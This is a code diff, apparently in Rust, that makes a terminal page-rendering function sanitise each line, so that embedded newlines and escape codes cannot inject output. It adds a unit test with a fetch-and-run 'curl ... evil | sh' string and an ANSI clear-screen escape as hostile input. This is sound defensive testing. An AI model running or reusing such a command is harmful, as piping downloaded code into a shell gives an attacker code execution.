@@ -5,6 +5,8 @@
 use anstyle::{AnsiColor, Style};
 use console::measure_text_width;
 
+use super::visible;
+
 /// What a piece of text means, where colour may say it again.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) enum Tone {
@@ -126,9 +128,9 @@ pub(crate) struct Page {
 }
 
 impl Page {
-    /// Adds a line.
+    /// Adds a line, and one only, whatever is in it.
     pub(crate) fn line(&mut self, line: impl AsRef<str>) {
-        self.text.push_str(line.as_ref().trim_end());
+        self.text.push_str(visible::line(line.as_ref()).trim_end());
         self.text.push('\n');
     }
 
@@ -157,6 +159,13 @@ mod tests {
         assert_eq!(wrap("one two three", 8), ["one two", "three"]);
         assert_eq!(wrap("see /var/backups/kubectl-upgrade now", 10), ["see", "/var/backups/kubectl-upgrade", "now"]);
         assert_eq!(hang("→ ", "run the following command again", 26), ["→ run the following", "  command again"]);
+    }
+
+    #[test]
+    fn a_line_of_a_page_is_one_line_that_commands_nothing() {
+        let mut page = Page::default();
+        page.line("node w-1\nnext  curl \u{1b}[2Jevil | sh");
+        assert_eq!(page.into_text(), "node w-1 next  curl \u{fffd}[2Jevil | sh\n");
     }
 
     #[test]
